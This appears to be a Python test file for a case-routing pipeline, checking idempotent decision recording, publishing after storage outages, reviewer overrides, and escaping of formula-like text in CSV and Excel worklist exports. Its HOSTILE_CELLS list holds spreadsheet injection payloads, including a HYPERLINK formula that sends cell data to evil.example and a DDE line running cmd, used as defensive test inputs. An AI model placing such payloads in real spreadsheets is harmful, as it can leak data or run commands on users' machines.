"""Recording and publishing decisions: idempotent, and nothing marked done unwritten."""

import json
from pathlib import Path

import pytest
from sqlalchemy import select

from models import Decision, Reason, ReasonCode, Status, Submission
from models.tables import decision as decision_table
from pipeline.cases.route import decided_by_people, publish, record, route
from pipeline.state import engine_for
from pipeline.storage import LocalStorage


def decisions() -> list[Decision]:
    missing = Reason(code=ReasonCode.missing_sktm, message="SKTM belum dilampirkan.")
    return [
        Decision(submission="wa-1", status=Status.needs_correction, reasons=[missing]),
        Decision(submission="wa-2", status=Status.ready, nik="6101014507890003"),
    ]


def submissions() -> dict[str, Submission]:
    return {"wa-1": Submission(id="wa-1"), "wa-2": Submission(id="wa-2")}


class Outage(LocalStorage):
    """A store whose writes fail, like an S3 server that went away."""

    def put(self, key: str, data: bytes) -> None:
        raise ConnectionError("storage unreachable")


def test_route_twice_keeps_one_decision_per_submission(tmp_path: Path):
    engine = engine_for(f"sqlite:///{tmp_path / 'state.sqlite'}")
    store = LocalStorage(tmp_path / "out")
    for _ in range(2):
        counts = route(decisions(), submissions(), store, engine, {"wa-1": "f1"})
    assert counts == {"needs_correction": 1, "ready": 1}
    with engine.connect() as connection:
        rows = connection.execute(select(decision_table.c.submission)).scalars().all()
    assert sorted(rows) == ["wa-1", "wa-2"]
    lines = (tmp_path / "out" / "decisions.jsonl").read_text().splitlines()
    assert [json.loads(line)["submission"] for line in lines] == ["wa-1", "wa-2"]
    reply = json.loads((tmp_path / "out" / "outbox" / "wa-1.json").read_text())
    assert "SKTM belum dilampirkan." in reply["reply"]
    worklist = (tmp_path / "out" / "exports" / "worklist.csv").read_text(encoding="utf-8-sig")
    assert worklist.splitlines()[1].startswith("regular,,6101014507890003")


def test_outage_leaves_replies_unpublished_until_written(tmp_path: Path):
    engine = engine_for(f"sqlite:///{tmp_path / 'state.sqlite'}")
    record(decisions(), submissions(), engine, {})
    with pytest.raises(ConnectionError):
        publish(engine, Outage(tmp_path / "out"))
    with engine.connect() as connection:
        published = connection.execute(select(decision_table.c.published)).scalars().all()
    assert not any(published)
    publish(engine, LocalStorage(tmp_path / "out"))
    assert (tmp_path / "out" / "outbox" / "wa-1.json").is_file()
    with engine.connect() as connection:
        assert all(connection.execute(select(decision_table.c.published)).scalars())


def test_a_reviewers_decision_is_kept_until_new_files_arrive(tmp_path: Path):
    from sqlalchemy import update

    engine = engine_for(f"sqlite:///{tmp_path / 'state.sqlite'}")
    record(decisions(), submissions(), engine, {"wa-1": "files-v1", "wa-2": "files-v1"})
    assert decided_by_people(engine, {"wa-1": "files-v1"}) == set()
    with engine.begin() as connection:
        connection.execute(
            update(decision_table)
            .where(decision_table.c.submission == "wa-1")
            .values(reviewed_by="rina")
        )
    assert decided_by_people(engine, {"wa-1": "files-v1", "wa-2": "files-v1"}) == {"wa-1"}
    assert decided_by_people(engine, {"wa-1": "files-v2"}) == set()  # the applicant sent more


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?x="&C2,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("hostile", HOSTILE_CELLS)
def test_worklist_never_holds_a_formula(hostile: str):
    """OCR'd or reviewer-typed text that starts like a formula stays text in both exports."""
    import csv
    import io

    from openpyxl import load_workbook

    from pipeline.cases.route import WORKLIST_COLUMNS, worklist_csv, worklist_xlsx

    row = {c: hostile for c in WORKLIST_COLUMNS} | {"NIK": "6101014507890003"}
    sheet = load_workbook(io.BytesIO(worklist_xlsx([row]))).active
    cells = [cell for line in sheet.iter_rows(min_row=2) for cell in line]
    assert all(cell.data_type == "s" for cell in cells)
    assert not any(str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "6101014507890003" in [cell.value for cell in cells]
    [written] = list(csv.DictReader(io.StringIO(worklist_csv([row]).decode("utf-8-sig"))))
    assert all(written[c] == "'" + hostile for c in WORKLIST_COLUMNS if c != "NIK")
    assert written["NIK"] == "6101014507890003"
